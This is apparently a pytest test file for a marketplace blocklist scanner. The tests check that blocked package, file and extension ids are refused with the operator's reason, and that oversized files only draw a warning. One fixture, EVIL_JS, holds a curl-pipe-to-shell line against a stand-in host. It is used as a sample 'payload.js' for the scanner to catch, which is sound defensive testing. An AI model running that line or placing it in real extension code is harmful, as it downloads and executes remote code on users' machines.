"""The blocklist scanner (``publishing.scanning.blocklist``) against the in-memory publishing store: a blocked
package, file or extension id refuses the package with the kind and the operator's reason (never the hash), big
files are skipped with a warning, and file hashing only happens while file blocks exist."""

from __future__ import annotations

import hashlib
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from marketplace.platform.errors import BadRequest
from marketplace.publishing import manifest, service, vsix
from marketplace.publishing.scanning import REJECT, WARN, Subject, Verdict, blocklist
from tests import vsix_factory
from tests.fakes.publishing_store import FakePublishingStore

NOW = datetime(2026, 1, 2, tzinfo=UTC)
EVIL_JS = b"module.exports = require('child_process').exec('curl evil.example | sh');\n"


def _subject(tmp_path: Path, **options: object) -> Subject:
    path = vsix_factory.build_vsix(tmp_path / "pkg.vsix", **options)
    archive = vsix.inspect_archive(path, keep=manifest.wanted)
    principal = service.Principal("someone", "tok", frozenset({"somepub"}))
    return Subject(archive, manifest.read_package(archive), archive.sha256, principal, "upload-1")


def _block(store: FakePublishingStore, kind: str, value: str, reason: str = "known malware") -> None:
    store.put_block(store.block_item(kind, value, reason, "operator", NOW))


@pytest.fixture
def store() -> FakePublishingStore:
    return FakePublishingStore()


def test_a_clean_package_passes_and_nothing_is_hashed_without_file_blocks(tmp_path, store, monkeypatch):
    subject = _subject(tmp_path)
    hashed: list[str] = []

    def iter_entry(archive, entry, cap):
        hashed.append(entry.name)
        return []

    monkeypatch.setattr(blocklist, "iter_entry", iter_entry)
    assert blocklist.BlocklistScanner(store).scan(subject) == []
    assert hashed == []


def test_a_blocked_package_hash_is_refused_with_the_reason_and_not_the_hash(tmp_path, store):
    subject = _subject(tmp_path)
    _block(store, "package", subject.sha256, "a credential stealer")
    findings = blocklist.BlocklistScanner(store).scan(subject)
    assert [(f.rule, f.severity) for f in findings] == [("blocklist.package", REJECT)]
    assert findings[0].message == "the package is on this marketplace's blocklist: a credential stealer"
    assert subject.sha256 not in Verdict(tuple(findings)).reason()


def test_a_blocked_file_inside_an_otherwise_fine_package_is_refused_naming_the_file(tmp_path, store):
    subject = _subject(tmp_path, extra_files={"extension/dist/payload.js": EVIL_JS})
    _block(store, "file", hashlib.sha256(EVIL_JS).hexdigest(), "the payload of a known worm")
    _block(store, "file", "0" * 64, "something else")
    findings = blocklist.BlocklistScanner(store).scan(subject)
    assert [(f.rule, f.file) for f in findings] == [("blocklist.file", "extension/dist/payload.js")]
    assert findings[0].describe() == ("blocklist.file in extension/dist/payload.js: this file is on this "
                                      "marketplace's blocklist: the payload of a known worm")


def test_a_blocked_extension_id_is_refused(tmp_path, store):
    subject = _subject(tmp_path)
    _block(store, "extension", "somepub.hello", "impersonates another publisher")
    findings = blocklist.BlocklistScanner(store).scan(subject)
    assert [f.rule for f in findings] == ["blocklist.extension"]
    assert "impersonates another publisher" in findings[0].message


def test_files_over_64_mib_are_not_hashed_but_warned_about(tmp_path, store, monkeypatch):
    big = b"x" * 64 * 1024
    subject = _subject(tmp_path, extra_files={"extension/big.bin": big})
    _block(store, "file", hashlib.sha256(big).hexdigest())
    monkeypatch.setattr(blocklist, "MAX_HASHED_BYTES", len(big) - 1)
    findings = blocklist.BlocklistScanner(store).scan(subject)
    assert [(f.rule, f.file, f.severity) for f in findings] == [("blocklist.unchecked", "extension/big.bin", WARN)]


def test_block_values_are_checked_and_normalized():
    assert blocklist.value_of("package", " " + "AB" * 32 + " ") == "ab" * 32
    assert blocklist.value_of("extension", "SomePub.Hello") == "somepub.hello"
    for kind, value in (("package", "abc"), ("file", "g" * 64), ("extension", "nodot"), ("url", "x")):
        with pytest.raises(BadRequest):
            blocklist.value_of(kind, value)


def test_matching_files_of_a_stored_package(tmp_path):
    path = vsix_factory.build_vsix(tmp_path / "pkg.vsix", extra_files={"extension/dist/payload.js": EVIL_JS})
    wanted = {hashlib.sha256(EVIL_JS).hexdigest(), "f" * 64}
    assert list(blocklist.matching_files(path, wanted)) == ["extension/dist/payload.js"]
    assert list(blocklist.matching_files(path, {"f" * 64})) == []
    with zipfile.ZipFile(path) as archive:  # the same hash the ingest computes, file by file
        assert hashlib.sha256(archive.read("extension/dist/payload.js")).hexdigest() in wanted


def test_the_fake_store_removes_blocks(store):
    _block(store, "extension", "a.b")
    assert [b.value for b in store.blocks("extension")] == ["a.b"]
    assert store.remove_block("extension", "a.b") is True
    assert store.remove_block("extension", "a.b") is False
    assert store.get_block("extension", "a.b") is None


def _corpus_outcome(case, tmp_path: Path) -> tuple[str, frozenset[str]]:
    from marketplace.publishing import scanning
    from tests import scan_corpus

    directory = tmp_path / case.name
    directory.mkdir()
    path = case.build(directory)
    archive = vsix.inspect_archive(path, keep=manifest.wanted)
    subject = Subject(archive, manifest.read_package(archive), archive.sha256,
                      service.Principal("corpus-user", "corpus-token", frozenset()), "corpus")
    chosen = [scan_corpus.SCANNER_FIXTURES[name]() for name in sorted(case.scanners or ())]
    verdict = scanning.scan(subject, chosen)
    got = scan_corpus.WARN if verdict.action == scanning.PUBLISH and verdict.findings else verdict.action
    return got, frozenset(f.rule for f in verdict.findings)


def test_the_blocklist_corpus_cases(tmp_path):
    from tests import scan_corpus

    for case in scan_corpus.BLOCKLIST_CASES:
        assert _corpus_outcome(case, tmp_path) == (case.expect, case.rules), case.name
